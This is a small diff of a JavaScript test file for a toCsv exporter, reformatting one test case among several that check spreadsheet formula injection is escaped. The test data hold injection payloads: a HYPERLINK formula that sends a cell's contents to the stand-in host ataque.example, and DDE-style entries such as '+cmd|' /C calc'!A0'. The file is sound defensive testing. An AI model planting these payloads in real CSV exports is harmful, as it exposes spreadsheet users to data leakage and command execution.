@@ -22,7 +22,10 @@ describe('toCsv: CSV que una hoja de cálculo abre sin ejecutar nada', () => {
   });
 
   it.each([
-    ['=HYPERLINK("http://ataque.example/?x="&A1,"clic")', `"'=HYPERLINK(""http://ataque.example/?x=""&A1,""clic"")"`],
+    [
+      '=HYPERLINK("http://ataque.example/?x="&A1,"clic")',
+      `"'=HYPERLINK(""http://ataque.example/?x=""&A1,""clic"")"`,
+    ],
     ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
     ['-2+3+cmd|x', `'-2+3+cmd|x`],
     ['@SUM(1+1)*cmd|x', `'@SUM(1+1)*cmd|x`],
